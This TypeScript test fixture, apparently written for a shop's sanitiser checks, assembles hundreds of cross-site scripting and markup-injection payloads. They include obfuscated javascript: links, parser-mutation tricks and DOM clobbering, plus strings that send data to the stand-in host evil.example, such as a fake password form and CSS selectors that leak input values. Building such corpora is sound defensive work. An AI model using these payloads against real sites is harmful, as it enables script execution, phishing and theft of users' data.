/**
 * Texts that must do nothing wherever they are shown (SEC-A16): what merchants and customers may type, or what may be in a row that was written in some
 * other way. Each tries to run a script, to load or post something elsewhere, to look like a part of the page, or to confuse a parser.
 */

const RUN = "alert(1)";

/** Elements with a handler that would run without a press of a button, or with one. */
const HANDLERS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["body", "onhashchange"],
  ["details open", "ontoggle"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video><source", "onerror"],
  ["input autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["p tabindex=1", "onfocus"],
  ["p contenteditable", "oninput"],
  ["p", "onclick"],
  ["p", "onmouseover"],
  ["p", "onpointerenter"],
  ["p style=animation-name:spin", "onanimationstart"],
  ["p style=transition:color_1s", "ontransitionend"],
  ["a href=https://shop.example", "onclick"],
  ["a href=https://shop.example", "onauxclick"],
  ["h2", "ondblclick"],
  ["li", "oncopy"],
  ["b", "onwheel"],
  ["ul", "onscroll"],
  ["marquee", "onstart"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["iframe", "onload"],
  ["link rel=stylesheet href=x", "onload"],
  ["style", "onload"],
  ["math", "onclick"],
  ["x", "onclick"],
] as const;

/** The same scheme as browsers were found to read it, for fields whose whole text may become a link. */
export const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\tjavascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\r\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "\u2028javascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)",
  "javascript&#0000058alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "&#1;javascript:alert(1)",
  "javascript://https://shop.example/%0aalert(1)",
  "javascript:/*https://*/alert(1)",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example/x",
] as const;

/** Where such an address stands. */
const CARRIERS = [
  (address: string) => `<a href="${address}">press</a>`,
  (address: string) => `<img src="${address}" alt="picture">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>press</button></form>`,
  (address: string) => `[press](${address})`,
  (address: string) => `![picture](<${address}>)`,
] as const;

const WRITTEN = [
  "<script>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script/src=data:,alert(1)>",
  "<script\u000c>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)</script",
  "<script>alert(1)",
  "<<script>alert(1)//<</script>",
  "<script type=module>import('//evil.example/x.js')</script>",
  "<script type=importmap>{}</script>",
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</noscript><script>alert(1)</script>",
  "</template><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "'\"><script>alert(1)</script>",
  "'-alert(1)-'",
  '";alert(1);//',
  "$" + "{alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>press</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:alert(1)></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<svg><style>*{background:url(//evil.example/x)}</style></svg>",
  "<svg><image href=//evil.example/x.png></svg>",
  "<svg><desc><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<math href=javascript:alert(1)>press</math>",
  "<math><maction actiontype=statusline#https://shop.example xlink:href=javascript:alert(1)>press</maction></math>",
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
  "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
  "<select><option><style></option></select><b><img src=x onerror=alert(1)></style></b>",
  "<table><td><form><input form=x></td></table><button formaction=javascript:alert(1)>press</button>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe sandbox='allow-scripts allow-top-navigation' src=//evil.example></iframe>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  "<fencedframe></fencedframe>",
  "<portal src=https://evil.example></portal>",
  "<object data=javascript:alert(1)></object>",
  "<object type=text/html data=//evil.example></object>",
  "<object><param name=src value=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=evil></applet>",
  "<base href=https://evil.example/>",
  "<base target=evil>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
  "<meta name=referrer content=unsafe-url>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=preload as=script href=https://evil.example/x.js>",
  "<link rel=manifest href=https://evil.example/m.json>",
  "<link rel=icon href=https://evil.example/x.png>",
  "<link rel=import href=https://evil.example/x.html>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<style>body{background:url(https://evil.example/x.png)}</style>",
  "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
  "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
  "<style>main{display:none!important}</style>",
  "<p style='position:fixed;inset:0;z-index:9999;background:red'>over everything</p>",
  "<p style='background:url(https://evil.example/x.png)'>css</p>",
  "<p style='background:url(javascript:alert(1))'>css</p>",
  "<p style='width:expression(alert(1))'>css</p>",
  "<p style='-moz-binding:url(https://evil.example/x.xml)'>css</p>",
  "<p style=behavior:url(x.htc)>css</p>",
  "<p style='&#98;ackground:u\\72l(https://evil.example/x)'>css</p>",
  "<table background=https://evil.example/x.png><td>css</td></table>",
  "<body background=javascript:alert(1)>",
  "<img src=https://evil.example/track.gif>",
  "<img src=//evil.example/track.gif>",
  "<img srcset='https://evil.example/a 1x, javascript:alert(1) 2x'>",
  "<img src=/logout>",
  "<img src=/images/../logout>",
  "<img src='/images/x' alt='\"><script>alert(1)</script>'>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<img src='x'onerror='alert(1)'>",
  "<img/src=x/onerror=alert(1)>",
  "<img\u000bsrc=x\u000bonerror=alert(1)>",
  "<img src=x onerror\u0000=alert(1)>",
  "<img src=x oneonerrorrror=alert(1)>",
  "<img src=x OnErRoR=alert(1)>",
  '<img src=x onerror="&#97;lert(1)">',
  "<img src=x onerror=alert`1`>",
  "<img usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
  "<picture><source srcset=https://evil.example/a><img src=x onerror=alert(1)></picture>",
  "<image src=x onerror=alert(1)>",
  "<video poster=javascript:alert(1)></video>",
  "<video><track src=https://evil.example/t.vtt default></video>",
  "<audio src=https://evil.example/a.mp3 autoplay></audio>",
  "<input type=image src=x onerror=alert(1)>",
  "<input name=password placeholder='Your password'>",
  "<form action=https://evil.example><input name=password><button>Log in</button></form>",
  "<form id=settings><input name=title></form>",
  "<button form=settings formaction=https://evil.example>Save Changes</button>",
  "<isindex action=javascript:alert(1) type=image>",
  "<keygen autofocus onfocus=alert(1)>",
  "<dialog open>Log in again</dialog>",
  "<details open><summary>x</summary><script>alert(1)</script></details>",
  "<p popover id=pop>x</p><button popovertarget=pop>press</button>",
  "<button command=show-modal commandfor=pop>press</button>",
  "<slot name=x onslotchange=alert(1)></slot>",
  "<p is=x-evil>custom</p>",
  "<x-evil>custom</x-evil>",
  "<p id=main name=main>clobber</p>",
  "<a id=__remixContext href=https://evil.example>clobber</a>",
  "<form id=__remixManifest name=__remixContext><input name=state></form>",
  "<img name=body><img name=cookie><img name=getElementById>",
  "<a id=x></a><a id=x name=y href=https://evil.example>clobber</a>",
  "<p class='dialog-box fixed inset-0' data-slot=dialog data-discover=true>looks like ours</p>",
  "<p role=alert aria-live=assertive>not ours</p>",
  "<p slot=x part=y itemscope itemprop=z>not ours</p>",
  "<p accesskey=s tabindex=-1 autofocus inert hidden>not ours</p>",
  "<a href=https://evil.example target=_top download ping=https://evil.example>press</a>",
  "<a href=https://shop.example target=_blank rel=opener>press</a>",
  "<a href='https://user:pass@evil.example'>press</a>",
  "<a href=https://shop.example href=javascript:alert(1)>press</a>",
  "<a href='https://shop.example' href='javascript:alert(1)' onclick='alert(1)'>press</a>",
  "<a hReF=javascript:alert(1)>press</a>",
  "<a\u0009href\u000a=\u000djavascript:alert(1)>press</a>",
  "<a href=`javascript:alert(1)`>press</a>",
  "<a href=javascript&colon;alert&lpar;1&rpar;>press</a>",
  '<a href="j&#97v&#97script&#x3A;&#97lert(1)">press</a>',
  "<a href='mailto:a@example.com?bcc=b@example.com&body=<script>alert(1)</script>'>press</a>",
  "<a href='tel:1;alert(1)'>press</a>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<!--><script>alert(1)</script-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<!-- --!><script>alert(1)</script>",
  "<!><script>alert(1)</script>",
  "<?xml version=1.0?><script>alert(1)</script>",
  "<?php echo '<script>alert(1)</script>' ?>",
  "<% alert(1) %>",
  "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<p><b><i><a href=javascript:alert(1)></b></p></a></i>",
  '<p title="</p><img src=x onerror=alert(1)>">mutation</p>',
  "<p title='<!--' ><img src=x onerror=alert(1) title='-->'>",
  "<b <script>alert(1)</script>>mutation",
  "<b/onclick=alert(1)/>mutation",
  "< script>alert(1)</ script>",
  "<\u0000script>alert(1)</script>",
  "<s\u00adcript>alert(1)</script>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u02c2img src=x onerror=alert(1)\u02c3",
  "\u2039script\u203aalert(1)\u2039/script\u203a",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&LT;script&GT;alert(1)&LT;/script&GT;",
  "\u202ehtml.exe <script>alert(1)</script>",
  "\ufeff<script>alert(1)</script>",
  "\u200b<script>alert(1)</script>",
  "\u0130mg <\u0131mg src=x onerror=alert(1)>",
  "<\u017fcript>alert(1)</\u017fcript>",
  "\u2028<script>alert(1)</script>\u2029",
  "`<img src=x onerror=alert(1)>`",
  "``<script>alert(1)</script>``",
  "```html\n<script>alert(1)</script>\n```",
  "    <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "- <img src=x onerror=alert(1)>",
  "# <svg onload=alert(1)>",
  "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  '<https://evil.example/"onclick=alert(1)>',
  "<javascript:alert(1)>",
  "[press]: javascript:alert(1)\n\n[press]",
  '[press](https://shop.example "\'onclick=alert(1)//")',
  '[press](https://shop.example/"onmouseover="alert(1))',
  "[<img src=x onerror=alert(1)>](https://shop.example)",
  '!["onerror="alert(1)](x)',
  "![x](https://evil.example/track.gif)",
  "[press](<javascript:alert(1)>)",
  "[press](\u0001javascript:alert(1))",
  "[press](JAVASCRIPT&colon;alert(1))",
  "[x\\](javascript:alert(1))",
  "**<b onclick=alert(1)>bold**",
  "~~<s onclick=alert(1)>~~",
  "https://evil.example/<script>alert(1)</script>",
  '=HYPERLINK("https://evil.example")',
  "__proto__",
  '{"__html":"<img src=x onerror=alert(1)>"}',
  "</script><!--",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<plaintext><script>alert(1)</script>",
] as const;

/** All of them, each once. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...WRITTEN,
    ...HANDLERS.map(([element, handler]) => `<${element} ${handler}=${RUN}>hostile`),
    ...SCHEMES.flatMap((address, at) => {
      // Each address in two carriers, and each carrier with a third of the addresses.
      const carriers = [CARRIERS[at % CARRIERS.length], CARRIERS[(at + 3) % CARRIERS.length], CARRIERS[0]];
      return carriers.map((carrier) => carrier?.(address) ?? "");
    }),
  ]),
];

/** What an element of the sanitiser's answer may look like. */
export const ALLOWED_TAG =
  /^<\/?(?:p|br|b|i|em|strong|u|ul|ol|li|h2|h3|a|img)(?: (?:href|rel|src|alt|loading)="[^"<>]*")*(?: \/)?>$/;

/** Ends whatever the text before it may have left open, so that the next one is read by itself. */
const END =
  "\n\n\"'></script></style></textarea></title></xmp></noscript></noembed></noframes></listing></iframe></template></select></table></svg></math>-->\n\n";

/** Texts that each hold many of them, at most so long, with a line of their own after each: `(12)`. Postgres keeps no NUL. */
export function hostileBatches(longest: number): string[] {
  const batches: string[] = [];
  for (const [at, text] of HOSTILE_TEXTS.entries()) {
    const piece = `${text.replaceAll("\u0000", "")}${END}<p>(${at})</p>\n\n`;
    const last = batches.at(-1);
    if (last === undefined || last.length + piece.length > longest) batches.push(piece);
    else batches[batches.length - 1] = last + piece;
  }
  return batches;
}

/** All of them as a row of the database may hold them: Postgres keeps no NUL. */
const WRITABLE = HOSTILE_TEXTS.map((text) => text.replaceAll("\u0000", ""));

/** All of them in so many texts, one below the other, for fields that hold no markup. */
export const hostileLines = (count: number): string[] =>
  Array.from({ length: count }, (_, at) => WRITABLE.filter((__, index) => index % count === at).join("\n"));

/**
 * All of them in as few texts of at most so many characters as hold them, one below the other. One that is longer by itself comes in pieces that
 * overlap, so that nothing of it is left out and each piece begins somewhere else.
 */
export function hostilePieces(longest: number): string[] {
  const pieces: string[] = [];
  for (const text of WRITABLE.flatMap((whole) => cut(whole, longest))) {
    const last = pieces.at(-1);
    if (last === undefined || last.length + 1 + text.length > longest) pieces.push(text);
    else pieces[pieces.length - 1] = `${last}\n${text}`;
  }
  return pieces;
}

function cut(text: string, longest: number): string[] {
  const step = Math.ceil(longest / 2);
  if (text.length <= longest) return [text];
  return Array.from({ length: Math.ceil((text.length - longest) / step) + 1 }, (_, at) =>
    text.slice(at * step, at * step + longest),
  );
}
